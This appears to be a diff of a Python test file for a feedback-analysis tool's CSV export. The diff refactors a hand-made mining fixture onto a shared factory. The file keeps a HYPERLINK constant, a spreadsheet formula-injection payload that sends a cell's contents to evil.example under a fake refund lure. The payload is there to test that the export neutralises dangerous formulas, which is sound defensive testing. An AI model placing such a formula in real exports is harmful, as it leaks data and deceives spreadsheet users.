@@ -26,10 +26,9 @@ from feedback_nlp.report.csv_export import BOM, DANGEROUS_PREFIXES
 from feedback_nlp.report.csv_tables import FEEDBACK_COLUMNS, THEME_COLUMNS
 from feedback_nlp.settings import Settings
 from feedback_nlp.store import Store
-from feedback_nlp.store.base import utcnow
-from feedback_nlp.store.mining import MiningOutcome, ThemeRow, UnitRow
-from feedback_nlp.themes.registry import ThemeRegistry
+from feedback_nlp.store.mining import ThemeRow
 from tests.api.api_support import assert_problem, bearer, make_settings
+from tests.store.factory import HandUnit, save_hand_mining
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")'
 TEXTS = {
@@ -69,23 +68,6 @@ def assert_no_formula_cells(rows: list[list[str]]) -> None:
 
 def mine_by_hand(store: Store, workspace_id: int) -> None:
     """t_000001 (the four formula items, -0.8), t_000002 (RTL items, 0.5), group p_000001."""
-    items = store.mining_items(workspace_id, FeedbackFilter())
-    negative = {item.item_id for item in items if item.external_id in NEGATIVE}
-    units = [
-        UnitRow(
-            item_id=item.item_id,
-            unit_index=0,
-            start=0,
-            end=len(item.text),
-            text=item.text,
-            lang="en",
-            text_hash=item.text_hash,
-            theme_id="t_000001" if item.item_id in negative else "t_000002",
-            sentiment_label="negative" if item.item_id in negative else "positive",
-            sentiment_score=-0.8 if item.item_id in negative else 0.5,
-        )
-        for item in items
-    ]
 
     def theme(theme_id: str, level: int, label: str, size: int, **extra: Any) -> ThemeRow:
         fields: dict[str, Any] = {
@@ -110,18 +92,17 @@ def mine_by_hand(store: Store, workspace_id: int) -> None:
         theme("t_000002", 0, "slow app", 2, parent_id="p_000001"),
         theme("p_000001", 1, GROUP_LABEL, 6),
     ]
-    store.save_mining(
+    items = store.mining_items(workspace_id, FeedbackFilter())
+    negative = {item.item_id for item in items if item.external_id in NEGATIVE}
+    save_hand_mining(
+        store,
         workspace_id,
-        MiningOutcome(
-            job_id=None,
-            embedder="hand",
-            started_at=utcnow(),
-            item_ids=[item.item_id for item in items],
-            units=units,
-            themes=themes,
-            registry=ThemeRegistry(),
-            n_unassigned=0,
-            config={},
+        themes,
+        lambda item: HandUnit(
+            theme_id="t_000001" if item.item_id in negative else "t_000002",
+            lang="en",
+            sentiment_label="negative" if item.item_id in negative else "positive",
+            sentiment_score=-0.8 if item.item_id in negative else 0.5,
         ),
     )
 
